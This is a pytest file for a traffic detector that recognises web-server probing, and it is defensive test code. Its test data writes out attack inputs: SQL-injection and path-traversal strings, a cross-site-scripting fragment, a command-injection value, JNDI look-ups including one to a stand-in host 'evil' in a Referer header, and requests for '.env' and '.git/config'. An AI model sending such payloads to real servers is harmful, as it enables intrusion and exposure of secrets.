"""Probed web servers: texts of attacks however they are written, and requests that mostly fail."""

import pytest

from tests.collectors.traffic.detectors.crowd import hear, http, kinds

US, THEM = "10.0.0.10", "203.0.113.9"


def probes(paths: list[str], status: str = "200 OK", headers: dict[str, str] | None = None) -> list[str]:
    """Return the methods of what is found."""
    return [
        one.method
        for one in hear(http(THEM, US, 0.0, paths, status, headers=headers))
        if one.kind.name == "traffic.web_probed"
    ]


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("/?id=1%27%20OR%20%271%27=%271", "SQL injection"),
        ("/?id=1+UNION+ALL+SELECT+1,2", "SQL injection"),
        ("/?id=1/**/union/**/select/**/1", "SQL injection"),
        ("/?id=1;WAITFOR%20DELAY%20'0:0:5'--", "SQL injection"),
        ("/?id=1%20AND%208362=8362", "SQL injection"),
        ("/?f=../../../../etc/hostname", "path traversal"),
        ("/?f=%252e%252e%252f%252e%252e%252f", "path traversal"),
        ("/?q=%3Cscript%3Ealert(1)", "cross-site scripting"),
        ("/?c=1;cat%20x", "command injection"),
        ("/?x=$%7Bjndi:ldap://x/a%7D", "JNDI look-up"),
        ("/?x=%3C?php%20x", "code injection"),
        ("/.env", "file that gives away secrets"),
        ("/.git/config", "file that gives away secrets"),
    ],
)
def test_texts_of_attacks_are_known_however_written(path: str, kind: str) -> None:
    assert probes([path, path]) == []
    assert probes([path, path, path]) == [kind]


@pytest.mark.parametrize(
    "path",
    [
        "/search?q=select+a+seat+from+the+map",
        "/?q=O%27Brien+and+sons",
        "/api?filter=name%20eq%20'x'%20and%20size%20gt%205",
        "/a/../b",
        "/union/select-committee",
        "/?redirect=https://example.org/%3Fa%3D1%26b%3D2",
        "/img?w=10%25&h=20%25",
        "/wiki/Script_(disambiguation)",
        "/.well-known/acme-challenge/x",
    ],
)
def test_ordinary_texts_are_not(path: str) -> None:
    assert probes([path] * 10) == []


def test_headers_are_looked_at_too() -> None:
    assert probes(["/"] * 3, headers={"Referer": "${jndi:ldap://evil/a}"}) == ["JNDI look-up"]


def test_requests_that_mostly_fail_are_probes() -> None:
    assert probes([f"/{n}" for n in range(59)], "404 Not Found") == []
    assert probes([f"/{n}" for n in range(60)], "404 Not Found") == ["failing requests"]
    good = http(THEM, US, 0.0, ["/"] * 60) + http(THEM, US, 0.5, [f"/{n}" for n in range(60)], "404 Not Found")
    assert kinds(hear(good)) == set(), "half of them is not most"
